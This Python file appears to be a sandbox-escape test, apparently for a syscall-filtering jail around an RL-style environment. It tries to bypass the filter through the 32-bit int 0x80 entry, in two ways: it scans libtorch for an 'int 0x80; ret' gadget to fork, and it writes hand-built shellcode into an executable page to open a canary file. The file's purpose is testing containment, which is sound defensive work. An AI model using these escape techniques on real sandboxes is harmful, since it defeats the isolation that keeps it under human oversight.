"""TRIES: makes system calls by the 32-bit door (int 0x80), whose numbers mean other things
HOLDS: that door is closed: the jail ends with `crashed`
WITNESS: claim
"""

import ctypes
import os

import torch

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _call(number, *arguments):
    """Make a system call of x86-64 by its number; -1 if it is refused."""
    numbers = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return _libc.syscall(ctypes.c_long(number), *numbers)


_libc.mmap.restype = ctypes.c_void_p


def _gadget():
    """Find `int 0x80; ret` in the code that is there: no page of its own is needed."""
    folder = os.path.dirname(torch.__file__)
    library = ctypes.CDLL(f"{folder}/lib/libtorch_cpu.so")
    start = ctypes.cast(library.sgemm_, ctypes.c_void_p).value & ~4095
    for place in range(start, start + (96 << 20), 1 << 20):
        found = ctypes.string_at(place, (1 << 20) + 2).find(b"\xcd\x80\xc3")
        if found >= 0:
            return place + found


def _fork_by_gadget():
    # The caller passes the number of floating-point arguments in eax: 2 is fork.
    two = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_double, ctypes.c_double)
    pid = two(_gadget())(0.0, 0.0)
    if pid == 0:
        os._exit(0)
    return 0 < pid < 1 << 22 and os.waitpid(pid, 0)[0] == pid


def _open_by_own_code():
    place = _libc.mmap(None, ctypes.c_size_t(8192), 7, 0x62, -1, ctypes.c_long(0))
    if place in (None, 2**64 - 1):
        return False
    # push rbx; mov ebx, path; mov eax, 5 (open); xor ecx, ecx; int 0x80; pop rbx; ret
    path = (place + 4096).to_bytes(4, "little")
    code = b"\x53\xbb" + path + b"\xb8\x05\x00\x00\x00\x31\xc9\xcd\x80\x5b\xc3"
    ctypes.memmove(place, code, len(code))
    ctypes.memmove(place + 4096, b"@CANARY_FILE@\0", len(b"@CANARY_FILE@") + 1)
    descriptor = ctypes.CFUNCTYPE(ctypes.c_int)(place)()
    return descriptor >= 0 and b"CANARY" in os.read(descriptor, 4096)


_WAYS = (_open_by_own_code, _fork_by_gadget)


def _works(way):
    try:
        return bool(way())
    except BaseException:
        return False


def attack(state, action, next_state):
    won = any([_works(way) for way in _WAYS])
    return torch.full_like(next_state.height, float(won))
